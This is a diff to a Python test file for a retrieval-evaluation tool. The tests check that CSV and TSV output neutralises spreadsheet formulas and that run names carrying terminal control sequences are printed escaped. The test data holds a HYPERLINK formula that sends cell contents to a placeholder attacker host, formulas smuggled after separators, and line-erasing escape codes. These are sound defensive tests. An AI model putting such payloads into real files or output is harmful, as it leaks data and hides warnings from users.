@@ -41,8 +41,11 @@ def cells_of_csv(path):
 
 
 def starts_a_formula(cell: str) -> bool:
-    """A text cell a spreadsheet would evaluate (a number such as -0.5 is a number, not a formula)."""
-    if cell[:1] not in FORMULA:
+    """A text cell a spreadsheet would evaluate (a number such as -0.5 is a number, not a formula), also once a
+    spreadsheet set to another separator splits it at a comma, a semicolon or a quote (OWASP: an attacker "could
+    use this to start a new cell and then have the dangerous character in the middle of the user input")."""
+    if cell[:1] not in FORMULA and not any(cell[at + 1:at + 2] in FORMULA for at, ch in enumerate(cell)
+                                           if ch in ',;"'):
         return False
     try:
         float(cell)
@@ -53,7 +56,8 @@ def starts_a_formula(cell: str) -> bool:
 
 # ------------------------------------------------------------------------------------------ spreadsheets ---
 
-HOSTILE_DOCS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted", "plain"]
+HOSTILE_DOCS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted", "plain",
+                'x;=HYPERLINK("http://evil.example/?"&A1)', "y,@SUM(A1:A9)", 'z"-2+3', "w;'=x"]
 
 
 def hostile_tir(tmp_path):
@@ -84,9 +88,9 @@ def test_pool_files_neutralise_formulas_and_judgements_read_the_ids_back(tmp_pat
 def test_a_spreadsheet_that_dropped_the_quote_on_saving_still_matches_the_pool(tmp_path):
     from runscore.campaign.safe_output import neutralise_cell, restore_cell
 
-    for text in HOSTILE_DOCS + ["", "'", "''x", "\t=x", '"=x"', "\u2028"]:
+    for text in HOSTILE_DOCS + ["", "'", "''x", "\t=x", '"=x"', "\u2028", "a,'=b", ";", ",=", "'\"=x"]:
         assert restore_cell(neutralise_cell(text)) == text
-        assert restore_cell(text) == text or text[:1] == "'"
+        assert restore_cell(text) == text or "'" in text     # a quote of the text itself is told by the mark
     out = str(tmp_path / "pool")
     assert main(["pool", "--task", "temporalia-tir", "--depth", "10", str(hostile_tir(tmp_path)), "-o", out]) == 0
     lines = open(os.path.join(out, "pool.tsv"), encoding="utf-8").read().split("\n")
@@ -106,7 +110,7 @@ def test_report_csv_files_neutralise_formulas(tmp_path):
     sample = open(os.path.join(ROOT, "starting_kit", "sample_submission", "temporalia-tir", "tir_sample"),
                   encoding="utf-8").read()
     runs = []
-    for name in ("=evil", "@other"):
+    for name in ("=evil", "@other", "x;=cmd"):
         path = tmp_path / ("tir_%s" % name)
         path.write_text(sample.replace("\tsample\t", "\t%s\t" % name).replace("sample_run", "%s_run" % name),
                         encoding="utf-8")
@@ -118,6 +122,7 @@ def test_report_csv_files_neutralise_formulas(tmp_path):
         cells = cells_of_csv(os.path.join(out, name))
         assert not [c for c in cells if starts_a_formula(c)], (name, cells)
     assert "'=evil_run1" in cells_of_csv(os.path.join(out, "means.csv"))
+    assert "x;'=cmd_run1" in cells_of_csv(os.path.join(out, "means.csv"))
 
 
 # ------------------------------------------------------------------------------------------ pages ---
@@ -322,3 +327,31 @@ def test_limits_doc_gives_the_sheet_cap_the_code_applies():
         text = " ".join(handle.read().split())
     assert "the first %d told one by one, and past %s the sheet is given up" % (
         SHOWN_NOT_IN_POOL, "{:,}".format(MAX_ROWS_NOT_IN_POOL)) in text
+
+
+# ------------------------------------------------------------------------------------------ the terminal ---
+
+def test_names_print_no_terminal_controls(tmp_path, capsys):
+    """A run name is the participant's word, and `runscore pool` and `report` print names to the organiser's
+    terminal: `ESC[1A ESC[2K` erased the line above (a warning about that very run), and so does the one-byte CSI
+    (U+009B) of some terminals. Every control character a command prints of a name is written as an escape
+    (`\\x1b`), as the diagnostics' are."""
+    hostile = "ntc\x1b[1A\x1b[2K\x9b2J\x7f9"
+    runs = []
+    for name in (hostile, "ntc1"):
+        path = tmp_path / ("run%d" % len(runs))
+        path.write_text("".join("00%d\t0\tgakkai-000000000%d\t%d\t%d\t%s\n" % (t, r, r, 10 - r, name)
+                                for t in (31, 32) for r in range(1, 4)), encoding="utf-8")
+        runs.append(str(path))
+    runs.append(str(tmp_path / "run0"))                           # the same run given twice: a note names it
+    assert main(["pool", "--task", "ntcir1-adhoc", "--depth", "3", "--allow-same-names"] + runs +
+                ["-o", str(tmp_path / "pool")]) == 0
+    shown = capsys.readouterr()
+    for control in ("\x1b", "\x9b", "\x7f"):
+        assert control not in shown.out + shown.err, repr(control)
+    assert "ntc\\x1b[1A\\x1b[2K\\x9b2J\\x7f9" in shown.out
+    ref = os.path.join(ROOT, "reference_data", "ntcir1-adhoc")
+    assert main(["report", "--task", "ntcir1-adhoc", "--ref", ref, "--trials", "20", "--tau-bootstrap", "0",
+                 "--allow-same-names"] + runs + ["-o", str(tmp_path / "report")]) == 0
+    shown = capsys.readouterr()
+    assert "ntc\\x1b[1A" in shown.err and not [c for c in ("\x1b", "\x9b", "\x7f") if c in shown.out + shown.err]
